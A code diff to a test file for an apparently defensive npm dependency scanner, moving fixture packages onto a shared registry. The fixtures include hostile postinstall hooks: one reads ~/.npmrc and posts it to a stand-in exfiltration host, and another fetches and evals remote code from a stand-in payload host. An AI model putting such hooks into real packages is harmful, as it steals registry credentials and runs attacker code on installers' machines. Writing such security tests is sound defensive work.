@@ -4,7 +4,8 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { depwardenInProcess } from '../support/cli.js';
 import { tempDir } from '../support/temp.js';
-import { freePort, startRegistry, type Registry } from '../support/registry.mjs';
+import { freePort, type Registry } from '../support/registry.mjs';
+import { sharedRegistry } from '../support/shared-registry.js';
 
 interface Run {
   status: number | null;
@@ -42,31 +43,32 @@ function cachedBytes(dir: string): number {
 }
 
 beforeAll(async () => {
-  registry = await startRegistry();
-  const publish = (manifest: Record<string, unknown>, files?: Record<string, string>) =>
-    registry.publish(writePackage(manifest.name as string, manifest, files));
-  await publish({ name: 'dw-native', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{ "targets": [] }\n' });
-  await publish({
+  // dw-plain is one of the run's shared packages (shared-packages.ts).
+  registry = sharedRegistry();
+  const packages: string[] = [];
+  const publish = (manifest: Record<string, unknown>, files?: Record<string, string>) => packages.push(writePackage(manifest.name as string, manifest, files));
+  publish({ name: 'dw-native', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{ "targets": [] }\n' });
+  publish({
     name: 'dw-stealer',
     version: '1.0.0',
     scripts: {
       postinstall: `node -e "require('https').request('https://exfil.example.test/',{method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))"`,
     },
   });
-  await publish(
+  publish(
     { name: 'dw-dropper', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
     {
       'install.js':
         "require('https').get('https://payload.example.test/x.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n",
     },
   );
-  await publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
-  await publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
-  await publish(
+  publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
+  publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
+  publish(
     { name: 'dw-turned', version: '2.0.0', scripts: { postinstall: 'node collect.js' }, dependencies: { 'dw-native': '^1.0.0' } },
     { 'collect.js': 'console.log(1);\n' },
   );
-  await publish({ name: 'dw-plain', version: '1.0.0' });
+  await registry.publishAll(packages);
 });
 
 afterAll(async () => {
